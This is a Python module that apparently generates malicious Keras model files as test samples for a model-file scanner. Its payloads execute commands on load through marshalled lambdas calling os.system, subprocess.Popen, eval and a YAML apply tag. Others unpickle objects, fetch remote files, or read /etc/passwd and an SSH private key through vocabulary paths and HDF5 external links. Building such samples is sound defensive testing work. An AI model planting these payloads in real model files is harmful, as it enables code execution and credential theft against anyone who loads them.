"""Payloads in the formats of Keras 2 and 3: layers and objects whose configuration runs, reads or fetches something."""

import base64
import io
import json
import marshal
from collections.abc import Iterator
from typing import Any

import h5py

from .archives import Member, zip_of
from .carried import EVIL
from .sample import COMMAND, MARKER, URL, Sample

__all__ = ["samples"]

Config = dict[str, Any]


def _code(source: str) -> str:
    scope: dict[str, Any] = {}
    exec(f"f = lambda x: {source}", scope)
    return base64.b64encode(marshal.dumps(scope["f"].__code__)).decode() + "\n"


CODE = _code(f"(__import__('os').system('{COMMAND}'), x)[1]")
LAMBDA = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}


def _layer(kind: str, config: Config, module: str = "keras.layers", registered: str | None = None) -> Config:
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered}


DENSE = _layer("Dense", {"name": "d", "units": 2, "activation": "relu", "use_bias": True})
INPUT = _layer("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "name": "i"})


def _model(*layers: Config, **more: Any) -> Config:
    return {**_layer("Sequential", {"name": "s", "layers": [INPUT, *layers, DENSE]}, "keras"), **more}


def _weights(**attributes: Any) -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w") as weights:
        weights["layers/dense/vars/0"] = [[0.1, 0.2], [0.3, 0.4]]
        for name, value in attributes.items():
            weights.attrs[name] = value
    return file.getvalue()


def _three(config: Config, **members: bytes) -> bytes:
    parts = {
        "metadata.json": b'{"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}',
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": _weights(),
        **members,
    }
    return zip_of(*(Member(name, data) for name, data in parts.items()))


def _two(config: Config, **attributes: str) -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w") as model:
        model.attrs.update(
            {"model_config": json.dumps(config), "keras_version": "2.11.0", "backend": "tensorflow", **attributes}
        )
        model["model_weights/dense/kernel:0"] = [[0.1, 0.2]]
    return file.getvalue()


def _call(module: str, name: str, **config: Any) -> Config:
    return {"module": module, "class_name": name, "config": config, "registered_name": name}


def _function(module: str, name: str) -> Config:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _inside(function: Any, **arguments: Any) -> Config:
    return _layer("Lambda", {"name": "l", "function": function, "arguments": arguments})


def _of_three() -> Iterator[tuple[str, bytes]]:
    yield "Lambda of marshalled code", _three(_model(_inside(LAMBDA)))
    yield "Lambda in a model in a model", _three(_model(_model(_model(_inside(LAMBDA)))))
    yield (
        "Lambda within TimeDistributed",
        _three(_model(_layer("TimeDistributed", {"name": "t", "layer": _inside(LAMBDA)}))),
    )
    yield "marshalled activation", _three(_model(_layer("Dense", {"name": "e", "units": 1, "activation": LAMBDA})))
    yield (
        "marshalled initializer",
        _three(_model(_layer("Dense", {"name": "e", "units": 1, "kernel_initializer": LAMBDA}))),
    )
    compiled = {"optimizer": "adam", "loss": LAMBDA, "metrics": ["mae"]}
    yield "marshalled loss of compile", _three(_model(compile_config=compiled))
    yield "Lambda of os.system by name", _three(_model(_inside(_function("os", "system"), command=COMMAND)))
    yield "module and class of subprocess", _three(_model(_call("subprocess", "Popen", args=["touch", MARKER])))
    yield "class of builtins", _three(_model(_inside(_function("builtins", "eval"))))
    yield "Lambda of get_file", _three(_model(_inside(_function("keras.utils", "get_file"), origin=URL, fname="x")))
    unsafe = _function("keras.config", "enable_unsafe_deserialization")
    yield "unsafe deserialisation turned on", _three(_model(_inside(unsafe), _inside(LAMBDA)))
    yield "a loader of arrays by name", _three(_model(_inside(_function("numpy", "load"), file="x", allow_pickle=True)))
    yield (
        "StringLookup that reads a file",
        _three(_model(_layer("StringLookup", {"name": "v", "vocabulary": "/etc/passwd"}))),
    )
    yield (
        "TextVectorization that fetches",
        _three(_model(_layer("TextVectorization", {"name": "v", "vocabulary": URL}))),
    )
    yield (
        "IntegerLookup with a path upwards",
        _three(_model(_layer("IntegerLookup", {"vocabulary": "../../../root/.ssh/id_rsa"}))),
    )
    yield (
        "TFSMLayer of a foreign folder",
        _three(_model(_layer("TFSMLayer", {"filepath": "/tmp/vallum-none", "name": "t"}))),
    )
    torch = _layer(
        "TorchModuleWrapper", {"module": base64.b64encode(EVIL).decode(), "name": "t"}, "keras.src.utils.torch_utils"
    )
    yield "TorchModuleWrapper of a pickle", _three(_model(torch))
    yield (
        "class from a module of tests",
        _three(_model(_call("test.support.script_helper", "assert_python_ok", args=["-c", "1"]))),
    )
    yield (
        "Lambda in a file whose name hides it",
        zip_of(
            Member("CONFIG.JSON", b"{}"),
            Member("config.json", json.dumps(_model(_inside(LAMBDA))).encode(), way=8),
            Member("metadata.json", b"{}"),
            Member("model.weights.h5", _weights()),
        ),
    )
    yield "a pickle beside the weights", _three(_model(), **{"assets/vocab.pkl": EVIL})
    yield (
        "two configurations",
        zip_of(
            Member("config.json", json.dumps(_model()).encode()),
            Member("config.json", json.dumps(_model(_inside(LAMBDA))).encode()),
            Member("metadata.json", b"{}"),
            Member("model.weights.h5", _weights()),
        ),
    )


def _external() -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w") as weights:
        weights["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")
    return file.getvalue()


def _outside_storage() -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w") as weights:
        weights.create_dataset("layers/dense/vars/0", (64,), "u1", external=[("/etc/passwd", 0, 64)])
    return file.getvalue()


def _of_two() -> Iterator[tuple[str, str, bytes]]:
    old = [CODE, None, None]
    layer = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": old, "function_type": "lambda", "module": "__main__"},
    }
    dense = {"class_name": "Dense", "config": {"name": "d", "units": 1, "activation": "linear"}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer, dense]}}
    yield "HDF5 with a Lambda", "model.h5", _two(config)
    functional = {
        "class_name": "Functional",
        "config": {
            "name": "f",
            "layers": [{**dense, "inbound_nodes": []}, {**layer, "name": "l", "inbound_nodes": [[["d", 0, 0, {}]]]}],
            "input_layers": [["d", 0, 0]],
            "output_layers": [["l", 0, 0]],
        },
    }
    yield "HDF5, functional, Lambda second", "weights.hdf5", _two(functional)
    wrapped = {"class_name": "Bidirectional", "config": {"name": "b", "layer": layer}}
    yield (
        "HDF5, Lambda in a wrapper, called .bin",
        "model.bin",
        _two({"class_name": "Sequential", "config": [wrapped, dense]}),
    )
    named = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": "system",
            "function_type": "function",
            "module": "os",
            "arguments": {"command": COMMAND},
        },
    }
    yield (
        "HDF5, Lambda by a function's name",
        "model.h5",
        _two({"class_name": "Sequential", "config": {"layers": [named]}}),
    )
    trained = json.dumps({"loss": LAMBDA, "optimizer_config": {"class_name": "Adam", "config": {}}})
    yield (
        "HDF5, marshalled loss",
        "model.h5",
        _two({"class_name": "Sequential", "config": {"layers": [dense]}}, training_config=trained),
    )
    yield "architecture alone, JSON", "architecture.json", json.dumps(config).encode()
    yield "architecture alone, Keras 3 JSON", "model.json", json.dumps(_model(_inside(LAMBDA))).encode()
    yield (
        "architecture in YAML with a tag",
        "architecture.yaml",
        (
            b"backend: tensorflow\nclass_name: Sequential\nconfig:\n  name: !!python/object/apply:os.system ['"
            + COMMAND.encode()
            + b"']\n"
        ),
    )
    yield "weights that link to a file outside", "model.weights.h5", _external()
    yield "weights stored in a file outside", "model.weights.h5", _outside_storage()
    yield "the same in a .keras", "model.keras", _three(_model(), **{"model.weights.h5": _external()})
    yield "HDF5 attribute that PyTables unpickles", "store.h5", _weights(TITLE="w", CLASS="GROUP", info=_zero_pickle())


def _zero_pickle() -> Any:
    import numpy

    return numpy.bytes_(f"cos\nsystem\np0\n(S'{COMMAND}'\np1\ntp2\nRp3\n.".encode())


def samples() -> Iterator[Sample]:
    for name, data in _of_three():
        yield Sample("keras files", name, {"model.keras": data})
    for name, file, data in _of_two():
        yield Sample("keras files", name, {file: data})
